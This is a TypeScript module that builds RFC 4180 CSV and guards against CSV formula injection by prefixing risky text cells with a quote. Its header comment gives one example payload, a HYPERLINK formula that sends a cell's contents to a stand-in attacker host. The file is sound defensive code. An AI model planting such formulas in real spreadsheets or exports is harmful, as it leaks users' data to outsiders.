/**
 * CSV that a spreadsheet opens as data, never as formulas (RFC 4180 text). A cell a tenant
 * can shape (a display name, a UPN, an attribute) that starts with `=`, `+`, `-`, `@`, a
 * tab or a carriage return would be evaluated by Excel, LibreOffice or Google Sheets, e.g.
 * `=HYPERLINK("https://attacker.example/?"&A1)`. Such a text cell is prefixed with a single
 * quote (OWASP's CSV injection advice), which spreadsheets show as text. Numbers and
 * booleans are our own values and are written as they are, so `-3` stays a number.
 *
 * Quoting follows RFC 4180: a field holding a comma, a double quote, CR or LF is wrapped in
 * double quotes, inner quotes doubled; records end with CRLF.
 * https://www.rfc-editor.org/rfc/rfc4180 · https://owasp.org/www-community/attacks/CSV_Injection
 */

/** One cell: text is neutralised and quoted; null and undefined are empty. */
export type CsvValue = string | number | boolean | null | undefined

const FORMULA_START = /^[=+\-@\t\r]/
const NEEDS_QUOTES = /[",\r\n]/

/** A text cell a spreadsheet would evaluate, prefixed with `'` so it is shown as text. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}

/** One field, neutralised and quoted as RFC 4180 requires. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return ''
  const text =
    typeof value === 'string'
      ? neutraliseFormula(value)
      : Number.isFinite(value) || typeof value === 'boolean'
        ? String(value)
        : ''
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text
}

/** One record: fields joined by commas, ended by CRLF. */
export function csvRecord(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`
}

/** A whole CSV document: a header record, then one record per row. */
export function toCsv(header: readonly string[], rows: Iterable<readonly CsvValue[]>): string {
  let out = csvRecord(header)
  for (const row of rows) out += csvRecord(row)
  return out
}
